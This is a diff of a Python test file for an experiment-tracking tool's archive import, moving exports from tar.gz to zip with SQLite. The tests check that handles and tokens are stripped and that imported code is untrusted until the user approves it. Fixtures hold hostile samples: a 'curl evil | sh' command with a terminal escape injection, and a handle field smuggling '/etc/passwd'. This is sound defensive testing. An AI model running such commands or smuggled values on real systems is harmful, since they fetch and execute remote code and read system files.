@@ -2,15 +2,17 @@
 
 import json
 import os
+import sqlite3
 import sys
+import zipfile
+from contextlib import closing
 from dataclasses import replace
-from datetime import timedelta
 from pathlib import Path
 
 import plans_support as plans
 import pytest
 import stores_support as stores
-from archives_support import JOINT, REFERENCE, UNIFORM, called, export, members, put, rewrite, take
+from archives_support import JOINT, REFERENCE, UNIFORM, called, export, rewrite, sql, take
 from click.testing import CliRunner
 from sqlalchemy import select
 
@@ -79,10 +81,14 @@ def test_runs_of_every_program_have_their_fingerprints():
 
 
 def test_handles_of_jobs_are_neither_exported_nor_imported(theirs, ours, tmp_path):
-    path = exported(theirs, tmp_path / "lab.tar.gz")
-    [rows] = [content for member, content in members(path) if member.name == "tables/attempt.jsonl"]
-    assert all(not {"handle", "token"} & set(json.loads(line)) for line in rows.splitlines())
-    rewrite(path, put("attempt", handle=f"host:{os.getpid()}:1:/etc/passwd", token="x"))
+    path = exported(theirs, tmp_path / "lab.zip")
+    with zipfile.ZipFile(path) as archive:
+        store = archive.extract("results.db", tmp_path)
+    with closing(sqlite3.connect(store)) as copy:
+        query = "SELECT DISTINCT handle, token, launcher FROM attempt"
+        assert copy.execute(query).fetchall() == [(None, None, None)]
+    job = sql("UPDATE attempt SET handle = ?, token = 'x'", f"host:{os.getpid()}:1:/etc/passwd")
+    rewrite(path, job, tmp_path / "x")
     assert take(ours, path).new == 2
     with Store.open(ours.store_url).reading() as connection:
         assert set(connection.execute(select(Attempt.handle, Attempt.token)).all()) == {(None, None)}
@@ -100,23 +106,23 @@ def test_commands_are_shown_as_a_shell_takes_them(ours, tmp_path):
         for run in (command, text)
     )
     study(lab, *runs)
-    take(ours, exported(lab, tmp_path / "lab.tar.gz"))
+    take(ours, exported(lab, tmp_path / "lab.zip"))
     shown = called("trust", "toy", "--dry-run", "--root", ours.root).output
     assert "command  sh -c 'curl evil | sh [2J' (in /)  evil" in shown
     assert "python train.py" in shown and "\x1b" not in shown
 
 
 def test_lists_tables_and_recipes_mention_the_import(theirs, ours, tmp_path):
-    take(ours, exported(theirs, tmp_path / "lab.tar.gz"))
+    take(ours, exported(theirs, tmp_path / "lab.zip"))
     assert "imported from" in called("status", "--root", ours.root).output
     [row] = json.loads(called("status", "--json", "--root", ours.root).output)
-    assert row["imported_from"] == "lab.tar.gz"
-    assert tables.table(ours.store_url, "summary", ["toy"]).notes[-1] == "toy was imported from lab.tar.gz."
+    assert row["imported_from"] == "lab.zip"
+    assert tables.table(ours.store_url, "summary", ["toy"]).notes[-1] == "toy was imported from lab.zip."
     assert not any("imported" in note for note in tables.table(theirs.store_url, "summary", ["toy"]).notes)
     with connect(ours.store_url) as connection:
         history = history_of(connection, "toy")
     assert history is not None
-    assert "imported from lab.tar.gz" in " ".join(recipe(history, None, "scoring").caveats)
+    assert "imported from lab.zip" in " ".join(recipe(history, None, "scoring").caveats)
 
 
 # ---- code of the study's author
@@ -135,7 +141,7 @@ def counts(results):
 class Evil:
     pass
 """
-REFUSED = "toy was imported from lab.tar.gz and is not trusted: list its code with jestlab trust"
+REFUSED = "toy was imported from lab.zip and is not trusted: list its code with jestlab trust"
 
 
 @pytest.fixture
@@ -165,7 +171,7 @@ def evil(tmp_path: Path, ours: Lab, monkeypatch: pytest.MonkeyPatch) -> Path:
     store.record(Plan(Study.parse(spec), runs))
     for run in runs:
         stores.attempt(store, run, scores={"toy/score": 0.5}, loss=(1.0,), executor=f"{evil}:Evil")
-    take(ours, exported(theirs, tmp_path / "lab.tar.gz"))
+    take(ours, exported(theirs, tmp_path / "lab.zip"))
     return evil
 
 
@@ -191,16 +197,16 @@ def test_trust_shows_what_would_be_executed_and_allows_it(ours, evil):
     store, at = Store.open(ours.store_url), ("--root", ours.root)
     origin = origin_of(store, "toy")
     assert origin is not None
-    assert (origin.archive, origin.trusted_at) == ("lab.tar.gz", None)
+    assert (origin.archive, origin.trusted_at) == ("lab.zip", None)
     shown = called("trust", "toy", "--dry-run", *at).output
     named = {"figure": "scatter", "table": "counts", "executor": "Evil", "config": "clipped"}
     for kind, name in named.items():
         assert kind in shown and f"{evil}:{name}" in shown, kind
     assert "toy_programs:loop" in shown and "planted.inner.module:call" in shown and "not trusted" in shown
-    with pytest.raises(UserError, match=r"imported from lab\.tar\.gz and is not trusted.*jestlab trust toy"):
+    with pytest.raises(UserError, match=r"imported from lab\.zip and is not trusted.*jestlab trust toy"):
         refuse_untrusted(store, "toy")
     result = json.loads(called("trust", "toy", "--json", *at).output)
-    assert result["trusted"] and result["origin"]["archive"] == "lab.tar.gz" and len(result["runs"]) == 2
+    assert result["trusted"] and result["origin"]["archive"] == "lab.zip" and len(result["runs"]) == 2
     assert {"kind": "executor", "name": f"{evil}:Evil"} in result["code"]
     refuse_untrusted(store, "toy")
     assert "| a" in called("table", "counts", "toy", *at).output
@@ -227,8 +233,8 @@ def test_code_that_the_user_names_or_launches_is_executed(ours, evil, tmp_path):
 
 
 def test_a_study_that_was_launched_here_stays_unless_it_is_replaced(theirs, ours, tmp_path):
-    path = exported(theirs, tmp_path / "lab.tar.gz")
-    rewrite(path, put("experiment", updated_at=(now() + timedelta(days=999)).isoformat()))
+    path = exported(theirs, tmp_path / "lab.zip")
+    rewrite(path, sql("UPDATE experiment SET updated_at = '2199-01-01 00:00:00'"), tmp_path / "x")
     store = study(ours, UNIFORM)
     before = query.select(ours.store_url, "experiments").rows
     merged = take(ours, path)
@@ -237,7 +243,7 @@ def test_a_study_that_was_launched_here_stays_unless_it_is_replaced(theirs, ours
     assert origin_of(store, "toy") is None
     assert [run.label for run in store.runs("toy")] == [UNIFORM.label]
     shown = called("import", path, "--root", ours.root).output
-    assert "toy was launched here and stays as it is" in shown and "--replace" in shown and "--root" in shown
+    assert "toy was launched here and is kept" in shown and "--replace" in shown and "--root" in shown
     assert take(ours, path, replace=True).experiments == ["toy"]
     assert [run.label for run in store.runs("toy")] == ["reference", "joint"]
     with pytest.raises(UserError, match="is not trusted"):
@@ -245,16 +251,17 @@ def test_a_study_that_was_launched_here_stays_unless_it_is_replaced(theirs, ours
 
 
 def test_importing_an_unchanged_own_study_changes_nothing(theirs, tmp_path):
-    merged = take(theirs, exported(theirs, tmp_path / "lab.tar.gz"), replace=True)
+    merged = take(theirs, exported(theirs, tmp_path / "lab.zip"), replace=True)
     assert (merged.experiments, merged.kept_experiments) == ([], [])
     assert origin_of(Store.open(theirs.store_url), "toy") is None
 
 
 def test_the_later_launch_of_an_imported_study_wins_and_the_future_is_now(theirs, ours, tmp_path):
-    first = exported(theirs, tmp_path / "first.tar.gz")
-    (tmp_path / "future.tar.gz").write_bytes(first.read_bytes())
-    rewrite(tmp_path / "future.tar.gz", put("experiment", updated_at="2199-01-01T00:00:00"))
-    take(ours, tmp_path / "future.tar.gz")
+    first = exported(theirs, tmp_path / "first.zip")
+    (tmp_path / "future.zip").write_bytes(first.read_bytes())
+    future = sql("UPDATE experiment SET updated_at = '2199-01-01 00:00:00'")
+    rewrite(tmp_path / "future.zip", future, tmp_path / "x")
+    take(ours, tmp_path / "future.zip")
     store = Store.open(ours.store_url)
     with store.reading() as connection:
         [updated_at] = connection.scalars(select(Experiment.updated_at))
@@ -263,9 +270,9 @@ def test_the_later_launch_of_an_imported_study_wins_and_the_future_is_now(theirs
     assert take(ours, first).experiments == []
     assert (origin := origin_of(store, "toy")) is not None and origin.trusted_at is not None
     Store.open(theirs.store_url).record(plans.plan(UNIFORM))
-    assert take(ours, exported(theirs, tmp_path / "second.tar.gz")).experiments == ["toy"]
+    assert take(ours, exported(theirs, tmp_path / "second.zip")).experiments == ["toy"]
     assert (origin := origin_of(store, "toy")) is not None
-    assert (origin.archive, origin.trusted_at) == ("second.tar.gz", None)
+    assert (origin.archive, origin.trusted_at) == ("second.zip", None)
 
 
 # ---- programs: the folder of a function's file isn't part of a run's identity
@@ -283,7 +290,7 @@ def test_a_launch_executes_the_users_own_program(ours, tmp_path, launched_first)
     assert MINE.fingerprint == OTHER.fingerprint
     theirs = stores.empty_lab(tmp_path / "theirs")
     study(theirs, OTHER)
-    path = exported(theirs, tmp_path / "lab.tar.gz")
+    path = exported(theirs, tmp_path / "lab.zip")
     store = Store.open(ours.store_url)
     if launched_first:
         store.record(plans.plan(MINE))
